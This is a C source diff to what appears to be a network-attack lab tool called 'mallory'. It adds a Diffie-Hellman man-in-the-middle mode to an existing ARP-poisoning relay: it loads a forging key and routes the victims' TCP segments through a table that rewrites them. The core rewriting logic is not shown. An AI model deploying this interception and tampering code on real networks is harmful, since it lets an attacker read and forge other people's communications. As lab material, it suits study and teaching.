@@ -13,6 +13,8 @@
 #include "capture.h"
 #include "dissect.h"
 #include "lab_guard.h"
+#include "mitm_flow.h"
+#include "mlab_crypto.h"
 #include "mlab_err.h"
 #include "netsum.h"
 #include "sniff_stream.h"
@@ -26,6 +28,8 @@ struct active {
 	struct capture *cap;
 	struct arp_poison arp;
 	struct sniff_stream *ss;
+	struct mitm_table *mitm; /* dh-mitm only */
+	EVP_PKEY *forge_key;
 	bool confirmed[2]; /* first relayed frame from victim i */
 	uint64_t relayed, arp_answers, inject_errors;
 	uint8_t out[CAPTURE_SNAPLEN];
@@ -94,6 +98,14 @@ static void relay(struct active *a, const uint8_t *p, size_t len, const struct d
 				       ip_str(a->arp.v[to].ip, d), "confirmed", 1),
 			     "poisoning confirmed: %s sends its frames for %s to mallory; relaying them", s, d);
 	}
+	/* dh-mitm: the protocol's connections are rewritten, segment by segment. */
+	if (a->mitm && f->proto == DISSECT_IPV4_TCP && !f->ip4.fragment &&
+	    (f->tcp.sport == a->o->port || f->tcp.dport == a->o->port)) {
+		const uint8_t *src_mac = from >= 0 ? a->arp.v[from].mac : f->src_mac;
+		(void)mitm_table_input(a->mitm, f, src_mac, a->arp.v[to].mac);
+		a->relayed++;
+		return;
+	}
 	if (f->proto == DISSECT_IPV4_TCP)
 		(void)sniff_stream_input(a->ss, f); /* report what can be read */
 	memcpy(a->out, p, len);
@@ -118,6 +130,15 @@ static void on_frame(void *arg, const uint8_t *p, size_t caplen, size_t wirelen)
 		on_arp(a, &f);
 	else if (f.have_ip4 && memcmp(f.dst_mac, a->arp.my_mac, 6) == 0)
 		relay(a, p, caplen, &f);
+}
+
+static int send_frame(void *arg, const uint8_t *frame, size_t len)
+{
+	struct active *a = arg;
+	int e = capture_inject(a->cap, frame, len);
+	if (e != 0)
+		a->inject_errors++;
+	return e;
 }
 
 static int fail(struct mlab_ev *ev, int err, const char *where, const char *msg, int code)
@@ -179,6 +200,21 @@ int active_run(const struct mallory_opts *o, struct mlab_ev *ev, volatile sig_at
 		goto out;
 	}
 
+	if (o->attack == MALLORY_ATTACK_DH_MITM) {
+		if (o->forge_key && mlab_key_load_private(o->forge_key, &a->forge_key) != 0) {
+			snprintf(msg, sizeof msg, "cannot read an Ed25519 private key (PEM) from %s", o->forge_key);
+			r = fail(ev, MLAB_E_KEYFILE, "setup", msg, MALLORY_EXIT_USAGE);
+			goto out;
+		}
+		struct mitm_params mp = {.port = o->port, .forge_key = a->forge_key, .tamper = o->tamper,
+					 .n_tamper = o->n_tamper, .send = send_frame, .send_arg = a, .ev = ev};
+		memcpy(mp.my_mac, my_mac, 6);
+		if (!(a->mitm = mitm_table_new(&mp))) {
+			r = fail(ev, MLAB_E_NOMEM, "setup", "out of memory", MALLORY_EXIT_INTERNAL);
+			goto out;
+		}
+	}
+
 	/* Learn both victims' true MACs: needed to relay and to restore. */
 	double t0 = now_ms(), next = 0;
 	while (!*stop && !(a->arp.v[0].known && a->arp.v[1].known) && now_ms() - t0 < RESOLVE_MS) {
@@ -231,6 +267,8 @@ int active_run(const struct mallory_opts *o, struct mlab_ev *ev, volatile sig_at
 		     (unsigned long long)a->relayed, (unsigned long long)a->arp.sent,
 		     (unsigned long long)st->messages_read);
 out:
+	mitm_table_free(a->mitm);
+	EVP_PKEY_free(a->forge_key);
 	arp_poison_close(&a->arp);
 	capture_close(a->cap);
 	sniff_stream_free(a->ss);
